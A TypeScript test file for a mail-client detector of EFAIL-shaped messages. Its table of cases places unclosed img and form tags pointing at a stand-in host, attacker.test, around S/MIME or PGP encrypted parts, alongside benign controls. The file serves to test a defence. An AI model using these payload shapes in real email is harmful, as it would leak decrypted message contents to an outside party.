/** A tag left open around an encrypted part (HM-220); broken HTML alone, or encryption alone, is none. */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { readViews } from "../../src/mail/views/read-views.ts";
import { hasEfailShape } from "../../src/signals/efail.ts";

const SECRET = "application/pkcs7-mime; smime-type=enveloped-data";

describe("efail-shape", () => {
  // biome-ignore format: a table reads by column
  const cases: readonly (readonly [name: string, parts: readonly (readonly [type: string, text: string])[], found: boolean])[] = [
    ["an open value before S/MIME",    [["text/html", '<img src="http://attacker.test/'], [SECRET, "x"], ["text/html", '">']],   true],
    ["an open single-quoted value",    [["text/html", "<p>a</p><img src='http://attacker.test/"], [SECRET, "x"]],               true],
    ["an open value without quotes",   [["text/html", "<img src=http://attacker.test/"], [SECRET, "x"]],                        true],
    ["a bracket inside the value",     [["text/html", '<img src="http://attacker.test/?a>b'], [SECRET, "x"]],                   true],
    ["a bracket in a value before it", [["text/html", '<img alt=">" src="http://attacker.test/'], [SECRET, "x"]],               true],
    ["an open form",                   [["text/html", '<form action="http://attacker.test/"><textarea name="'], [SECRET, "x"]], true],
    ["armour in a text",               [["text/html", '<img src="'], ["text/plain", "-----BEGIN PGP MESSAGE-----\r\n"]],        true],
    ["many signs in the value",        [["text/html", `<p>a</p><img src="http://attacker.test/?${"<a".repeat(40)}`], [SECRET, "x"]], true],
    ["a whole tag",                    [["text/html", '<img src="http://a.example/">'], [SECRET, "x"]],                         false],
    ["a smaller-than sign",            [["text/html", "<p>1 < 2, a=b</p>"], [SECRET, "x"]],                                     false],
    ["a quote in the text",            [["text/html", `<p class=a>he said "it's`], [SECRET, "x"]],                              false],
    ["nothing encrypted",              [["text/html", '<img src="http://a.example/'], ["text/plain", "x"]],                     false],
    ["a signature only",               [["text/html", '<img src="'], ["application/pgp-signature", "x"]],                       false],
    ["no HTML",                        [["text/plain", '<img src="'], [SECRET, "x"]],                                           false],
  ];
  for (const [name, parts, found] of cases) {
    test(name, () => {
      const lines = parts.flatMap(([type, text]) => ["--b", `Content-Type: ${type}`, "", text]);
      const head = ["From: a@example.org", "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=b", ""];
      const bytes = Buffer.from([...head, ...lines, "--b--", ""].join("\r\n"));
      assert.equal(hasEfailShape(readViews(bytes).bodies), found);
    });
  }
});
